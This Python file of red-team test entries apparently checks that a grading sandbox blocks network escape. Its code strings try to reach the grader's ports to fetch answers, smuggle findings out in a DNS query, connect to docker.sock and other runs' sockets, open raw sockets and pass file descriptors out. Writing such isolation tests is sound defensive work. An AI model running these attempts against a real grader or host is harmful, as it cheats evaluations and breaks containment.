"""Attacks over the network: the listeners belong to the trial, and nobody may reach them."""

# ruff: noqa: E501 - the code that is handed in stands in strings, as it was written

from __future__ import annotations

from functools import partial

from tests.redteam.entries import Entry

attack = partial(Entry, family="network")
SOCKET = "import socket\nsocket.setdefaulttimeout(2.0)\n"

ATTACKS = (
    attack("tcp", cell=SOCKET + 'attempt(lambda: socket.create_connection(("127.0.0.1", @TCP@)).send(b"@MARK@"))',
           tries="Connects to a port of the grader's machine.", quick=True),
    attack("http", cell="import urllib.request\n"
           'attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/@MARK@", timeout=2).read(10))',
           tries="Asks a web server for the answers."),
    attack("udp", cell=SOCKET + """\
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as out:
            out.sendto(b"@MARK@", (host, @UDP@))
    except OSError as error:
        print("refused:", type(error).__name__)
""", tries="Sends a datagram, which needs no answer."),
    attack("dns", cell=SOCKET + """\
import struct
question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\\x07redteam\\x07invalid\\x00" + struct.pack(">2H", 1, 1)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(question, ("127.0.0.1", @UDP@))
except OSError as error:
    print("refused:", type(error).__name__)
try:
    print(socket.getaddrinfo("localhost", @TCP@))
except OSError as error:
    print("refused:", type(error).__name__)
""", tries="Carries its findings out in the question of a name server."),
    attack("unix-socket", cell=SOCKET + """\
def connect():
    with socket.socket(socket.AF_UNIX) as out:
        out.connect("@UNIX@")
        out.send(b"@MARK@")
    return "a socket of the machine"
attempt(connect)
""", tries="Connects to a unix socket of the machine, as a container engine's would be."),
    attack("abstract-socket", cell=SOCKET + """\
def connect():
    with socket.socket(socket.AF_UNIX) as out:
        out.connect("\\0@ABSTRACT@")
        out.send(b"@MARK@")
    return "an abstract socket of the machine"
attempt(connect)
""", tries="Connects to an abstract unix socket, which no file system hides."),
    attack("raw-sockets", cell=SOCKET + """\
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"@MARK@", ("127.0.0.1", 0)))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).bind(("lo", 0)) or "packets of the loopback"
        if len(open("/proc/net/route").read().splitlines()) > 1 else 1 / 0)
""", tries="Opens raw sockets to forge and to listen to packets."),
    attack("sockets-of-the-grader", cell=SOCKET + """\
import glob, os, tempfile
for pattern in ("/tmp/*/socket*", "/tmp/grading-*/*", "/run/*/*.sock", "/run/*.sock", "/var/run/docker.sock"):
    for path in glob.glob(pattern):
        try:
            with socket.socket(socket.AF_UNIX) as out:
                out.connect(path)
            print("connected:", os.path.basename(path)[:3] if not path.startswith(os.path.dirname(os.getcwd())) else "own")
            if "docker" in path or "/run/" in path:
                won(path)
        except OSError as error:
            print("refused:", type(error).__name__)
""", tries="Connects to every socket that it can find: of other runs, of services, of the container engine."),
    attack("sending-descriptors", cell=SOCKET + """\
import array, os
def send():
    with socket.socket(socket.AF_UNIX) as out:
        out.connect("@UNIX@")
        socket.send_fds(out, [b"@MARK@"], [os.open("/", os.O_RDONLY)])
    return "descriptors"
attempt(send)
try:
    server = socket.socket(socket.AF_INET)
    server.bind(("0.0.0.0", 0))
    server.listen()
except OSError as error:
    print("refused:", type(error).__name__)
""", tries="Passes open descriptors out through a socket, and listens for connections itself."),
)  # fmt: skip
